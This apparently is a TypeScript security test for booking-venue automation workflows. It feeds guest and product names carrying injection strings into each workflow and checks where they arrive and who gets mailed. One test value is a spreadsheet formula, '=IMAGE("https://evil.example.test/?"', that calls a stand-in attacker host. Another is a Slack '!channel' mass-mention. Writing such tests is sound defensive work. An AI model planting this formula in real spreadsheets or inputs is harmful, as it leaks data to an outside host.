import type { Json } from '../../../venue/json';
import type { ExampleLab } from '../exampleLab';
import { bookedToday, runBySchedule, starters } from '../starters';
import { answerLookUps } from '../tried';
import { live, type Vocabulary } from '../vocabularies';
import { attacked, type Attack } from './hostile';
import { ADDRESSES, NAMES } from './words';

/** Slack takes one message a second, so a few names have to do. */
const TEXTS = [NAMES[0], NAMES.slice(5, 10).join(' ').slice(0, 190)];
const TOLD = ['=IMAGE("https://evil.example.test/?"', '!channel', 'hello'];

const TODAY_LISTS_THEM = ['starters/todays-guests', 'starters/waiver-missing'];
const MAY_BE_MAILED = ['front-desk@example.test', 'manager@example.test', 'ada@example.test'];

/** A venue like the live one, in which this text stands wherever a guest or a product is named. */
function venueOf(text: string, index: number): Vocabulary {
	const { booking, lookUps, ...rest } = live;
	const uniqueId = `BKG-${index}`;
	const customerId = 5001 + index;
	const { items, ...fields } = booking.booking as Record<string, Json>;
	return {
		...rest,
		booking: {
			booking: {
				...{ ...fields, items, uniqueId, customerId, name: text },
				payments: [{ bookingPaymentId: index, amount: 10 }],
			},
		},
		customer: {
			...{ customerId, firstName: text, lastName: text, acceptMarketing: true },
			email: `guest-${index}@example.test`,
		},
		redemption: { redemptions: [{ ticketId: `${index}-1`, customerId }] },
		lookUps: {
			...lookUps,
			guest: { ...lookUps.guest, firstName: text },
			products: [{ products: [{ id: '301', name: text }] }],
		},
	};
}

const valuesIn = (value: unknown): unknown[] =>
	typeof value === 'object' && value !== null ? Object.values(value).flatMap(valuesIn) : [value];

async function send(lab: ExampleLab, example: string, all: Vocabulary[]): Promise<void> {
	const { event } = starters[example];
	const { imported, venue, send: emit } = await attacked(lab, example);
	for (const vocabulary of all) {
		answerLookUps(lab, vocabulary);
		if (event) await emit(event, [vocabulary[event.of] as Json]);
		else if (TODAY_LISTS_THEM.includes(example)) {
			const modifiedDate = new Date(lab.n8n.clock.now()).toISOString();
			venue.bookings.put({ uniqueId: 'BKG', ...bookedToday(vocabulary, lab), modifiedDate });
		}
	}
	if (!event) await runBySchedule(lab, imported);
}

const attack: Attack = async (lab, example) => {
	await send(lab, example, TEXTS.map(venueOf));
	const arrived = lab.apps.arrived(example).flatMap(valuesIn);
	expect(arrived.length).toBeGreaterThan(0);
	const namesGuests = example !== 'starters/daily-revenue';
	for (const text of namesGuests ? TOLD : []) expect(arrived.join('\n')).toContain(text);
	for (const { to } of lab.apps.gmail.mails) expect(MAY_BE_MAILED).toContain(to);
};

/** An address that names several people gets no mail, and the run says nothing of it. */
const greeting: Attack = async (lab, example) => {
	await send(lab, example, TEXTS.map(venueOf));
	// A mail program makes a link of an address, and the mail comes from the venue.
	const { mails } = lab.apps.gmail;
	expect(mails.map(({ to }) => to)).toEqual(TEXTS.map(() => 'ada@example.test'));
	for (const { text } of mails) expect(text).toMatch(/^Hello [\p{L} '’-]{1,60},\s/u);
	const [venue] = TEXTS.map(venueOf);
	const others = ADDRESSES.map((email, index): Vocabulary => {
		const redemption = { redemptions: [{ customerId: 6001 + index }] };
		return { ...venue, redemption, lookUps: { ...venue.lookUps, guest: { email } } };
	});
	await send(lab, example, others);
	expect(lab.apps.gmail.mails).toEqual([]);
};

export const toStarters: Record<string, Attack> = Object.fromEntries(
	Object.keys(starters).map((name) => [
		name,
		name === 'starters/greeting-at-redemption' ? greeting : attack,
	]),
);
